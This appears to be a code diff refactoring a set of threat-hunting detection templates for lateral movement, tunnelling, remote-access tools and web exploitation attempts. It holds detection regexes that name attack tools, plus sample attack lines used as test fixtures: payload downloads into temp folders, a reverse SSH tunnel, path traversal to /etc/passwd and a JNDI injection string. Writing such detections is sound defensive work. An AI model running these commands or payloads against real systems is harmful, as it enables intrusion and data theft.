@@ -1,4 +1,4 @@
-import type { QueryTemplate } from './template.ts';
+import { havingDistinct, type QueryTemplate } from './template.ts';
 
 /** Lateral movement, and command and control. */
 export const movement: readonly QueryTemplate[] = [
@@ -8,9 +8,7 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Command run on another host, or file copied there',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`\b(psexec|paexec|wmiexec|smbexec|atexec|dcomexec|evil-winrm|winexe)\b|\bwinrs(\.exe)?"?\s+[-/]r|invoke-command\s.*-computername|enter-pssession|(copy|xcopy|robocopy|move)\s.*\\\\\S+\\(admin|c|ipc)\$|net1?(\.exe)?"?\s+use\s+\\\\\S+\\(admin|c|ipc)\$`,
-    },
+    where: String.raw`\b(psexec|paexec|wmiexec|smbexec|atexec|dcomexec|evil-winrm|winexe)\b|\bwinrs(\.exe)?"?\s+[-/]r|invoke-command\s.*-computername|enter-pssession|(copy|xcopy|robocopy|move)\s.*\\\\\S+\\(admin|c|ipc)\$|net1?(\.exe)?"?\s+use\s+\\\\\S+\\(admin|c|ipc)\$`,
     benign: 'administrators and software deployment on their own hosts',
     match: [
       'copy a.exe \\\\FS-01\\C$\\Windows\\Temp\\a.exe',
@@ -27,8 +25,8 @@ export const movement: readonly QueryTemplate[] = [
     needs: ['target', 'client'],
     category: 'first_occurrence',
     severity: 'low',
-    where: { port: String.raw`^3389$` },
-    having: (sql) => ({ columns: `${sql('target')} AS target`, condition: 'true' }),
+    where: String.raw`^3389$`,
+    having: (sql) => ({ columns: `${sql('target')} AS target` }),
     benign: 'help desk and administrators in their own network',
     match: [{ client: 'MATCH', target: '10.0.0.10', port: 3389 }],
     noMatch: [{ client: 'QUIET', target: '10.0.0.10', port: 443 }],
@@ -40,11 +38,8 @@ export const movement: readonly QueryTemplate[] = [
     kind: 'network',
     needs: ['target', 'client'],
     severity: 'high',
-    where: { port: String.raw`^(22|135|445|5985|5986)$` },
-    having: (sql) => ({
-      columns: `count(DISTINCT ${sql('target')}) AS count`,
-      condition: `count(DISTINCT ${sql('target')}) >= 20`,
-    }),
+    where: String.raw`^(22|135|445|5985|5986)$`,
+    having: havingDistinct('target', 20),
     benign: 'domain controllers, software deployment, and scanners; create exceptions for them',
     match: Array.from({ length: 20 }, (_, n) => ({ client: 'MATCH', target: `10.0.1.${n}`, port: 445 })),
     noMatch: Array.from({ length: 20 }, () => ({ client: 'QUIET', target: '10.0.1.1', port: 445 })),
@@ -55,7 +50,7 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Connection to a port common for remote control tools',
     kind: 'network',
     severity: 'medium',
-    where: { port: String.raw`^(1337|4444|4445|5555|6666|6667|8531|9001|9030|31337|50050)$` },
+    where: String.raw`^(1337|4444|4445|5555|6666|6667|8531|9001|9030|31337|50050)$`,
     benign: 'development servers and printers with an internal destination',
     match: [{ client: 'MATCH', host: 'MATCH', target: '203.0.113.7', port: 4444 }],
     noMatch: [{ client: 'QUIET', host: 'QUIET', target: '203.0.113.7', port: 443 }],
@@ -66,9 +61,7 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Program downloaded from the command line to a user folder',
     kind: 'process',
     severity: 'medium',
-    where: {
-      command: String.raw`(curl|wget)(\.exe)?"?\s.*(-o|--output|-p|-O)\s*\S*(\\(temp|public|appdata|programdata)\\|/(tmp|dev/shm|var/tmp)/)|(invoke-webrequest|iwr|downloadfile|start-bitstransfer).*\\(temp|public|appdata|programdata)\\`,
-    },
+    where: String.raw`(curl|wget)(\.exe)?"?\s.*(-o|--output|-p|-O)\s*\S*(\\(temp|public|appdata|programdata)\\|/(tmp|dev/shm|var/tmp)/)|(invoke-webrequest|iwr|downloadfile|start-bitstransfer).*\\(temp|public|appdata|programdata)\\`,
     benign: 'build machines and developers',
     match: ['curl.exe -s http://192.0.2.9/a.exe -o C:\\Users\\Public\\a.exe', 'wget -q http://192.0.2.9/x -O /tmp/.x'],
     noMatch: ['curl https://api.example/health', 'wget -O /opt/app/app.tgz https://dl.example/app.tgz'],
@@ -79,9 +72,7 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Tunnel or proxy to an external host started',
     kind: 'process',
     severity: 'high',
-    where: {
-      command: String.raw`\b(ngrok|chisel|ligolo|frpc|gost|revsocks|cloudflared|localtonet|bore|pgrok|iodine|dnscat2?)(\.exe)?\b|(ssh|plink)(\.exe)?"?\s.*\s-(r|nr|d|nd|fnr)\s*\S*\d{2,5}|netsh\s+interface\s+portproxy\s+add|socat\s.*tcp-listen`,
-    },
+    where: String.raw`\b(ngrok|chisel|ligolo|frpc|gost|revsocks|cloudflared|localtonet|bore|pgrok|iodine|dnscat2?)(\.exe)?\b|(ssh|plink)(\.exe)?"?\s.*\s-(r|nr|d|nd|fnr)\s*\S*\d{2,5}|netsh\s+interface\s+portproxy\s+add|socat\s.*tcp-listen`,
     benign: 'developers sharing a local web page, or cloudflared as an installed service',
     match: ['ngrok tcp 3389', 'ssh -N -R 2222:localhost:22 x@192.0.2.9', 'chisel client 192.0.2.9:8080 R:socks'],
     noMatch: ['ssh ada@build.example', 'netsh interface show interface'],
@@ -93,36 +84,20 @@ export const movement: readonly QueryTemplate[] = [
     kind: 'process',
     category: 'first_occurrence',
     severity: 'medium',
-    where: {
-      command: String.raw`\b(anydesk|teamviewer(_service)?|screenconnect|connectwise|rustdesk|atera(agent)?|splashtop|remoteutilities|rutserv|ammyy|supremo|dwagent|meshagent|netsupport|client32|tacticalrmm|simplehelp|fleetdeck|action1_agent|ultraviewer)\b`,
-    },
+    where: String.raw`\b(anydesk|teamviewer(_service)?|screenconnect|connectwise|rustdesk|atera(agent)?|splashtop|remoteutilities|rutserv|ammyy|supremo|dwagent|meshagent|netsupport|client32|tacticalrmm|simplehelp|fleetdeck|action1_agent|ultraviewer)\b`,
     benign: 'the product that the organization itself uses; exclude it from the query',
     match: ['C:\\Users\\Public\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --silent'],
     noMatch: ['mstsc.exe /v:server'],
   },
   {
     id: 'web-service-contact',
-    techniques: [
-      'T1102',
-      'T1102.001',
-      'T1102.002',
-      'T1567',
-      'T1567.001',
-      'T1567.003',
-      'T1567.004',
-      'T1537',
-      'T1048',
-      'T1041',
-      'T1020',
-    ],
+    techniques: 'T1102 T1102.001 T1102.002 T1567 T1567.001 T1567.003 T1567.004 T1537 T1048 T1041 T1020'.split(' '),
     name: 'Paste, bot, or file-sharing service used for the first time',
     kind: 'web',
     category: 'first_occurrence',
     severity: 'medium',
-    where: {
-      domain: String.raw`(^|\.)(pastebin\.com|paste\.ee|ghostbin\.\w+|hastebin\.com|api\.telegram\.org|discord(app)?\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|mega\.(nz|co\.nz)|catbox\.moe|temp\.sh|webhook\.site|requestbin\.\w+|ngrok\.io|ngrok-free\.app|trycloudflare\.com|workers\.dev)$`,
-    },
-    having: (sql) => ({ columns: `${sql('domain')} AS domain`, condition: 'true' }),
+    where: String.raw`(^|\.)(pastebin\.com|paste\.ee|ghostbin\.\w+|hastebin\.com|api\.telegram\.org|discord(app)?\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|mega\.(nz|co\.nz)|catbox\.moe|temp\.sh|webhook\.site|requestbin\.\w+|ngrok\.io|ngrok-free\.app|trycloudflare\.com|workers\.dev)$`,
+    having: (sql) => ({ columns: `${sql('domain')} AS domain` }),
     benign: 'users sending a large file; servers and service accounts have no need to',
     match: [{ user: 'MATCH', client: 'MATCH', domain: 'api.telegram.org' }],
     noMatch: [{ user: 'QUIET', client: 'QUIET', domain: 'intranet.example' }],
@@ -133,11 +108,8 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Many DNS queries for long names under one domain',
     kind: 'dns',
     severity: 'high',
-    where: { query: String.raw`^[^.]{30,}\.|^([^.]+\.){5,}` },
-    having: (sql) => ({
-      columns: `count(DISTINCT ${sql('query')}) AS count`,
-      condition: `count(DISTINCT ${sql('query')}) >= 50`,
-    }),
+    where: String.raw`^[^.]{30,}\.|^([^.]+\.){5,}`,
+    having: havingDistinct('query', 50),
     benign: 'reputation lookups by mail filters and antivirus, and content delivery networks',
     match: Array.from({ length: 50 }, (_, n) => ({
       client: 'MATCH',
@@ -152,9 +124,7 @@ export const movement: readonly QueryTemplate[] = [
     name: 'Request that tries to exploit a web application',
     kind: 'webServer',
     severity: 'medium',
-    where: {
-      path: String.raw`(\.\./|%2e%2e(/|%2f)){2,}|\$\{(jndi|lower|upper|env):|%24%7bjndi|union(\s|\+|%20)+(all(\s|\+|%20)+)?select|/etc/passwd|cmd\.exe|powershell|\bwhoami\b|<script|%3cscript|/(wp-content|uploads|images)/[^?]*\.(php|aspx?|jsp)\b|;(\s|\+|%20)*(wget|curl)(\s|\+|%20)`,
-    },
+    where: String.raw`(\.\./|%2e%2e(/|%2f)){2,}|\$\{(jndi|lower|upper|env):|%24%7bjndi|union(\s|\+|%20)+(all(\s|\+|%20)+)?select|/etc/passwd|cmd\.exe|powershell|\bwhoami\b|<script|%3cscript|/(wp-content|uploads|images)/[^?]*\.(php|aspx?|jsp)\b|;(\s|\+|%20)*(wget|curl)(\s|\+|%20)`,
     benign: 'internet scanners, which hit every site; only a success matters (status 200, a large response)',
     match: ['/cgi-bin/../../../../etc/passwd', '/?x=${jndi:ldap://192.0.2.9/a}'],
     noMatch: ['/products/list?page=2', '/static/app.js'],
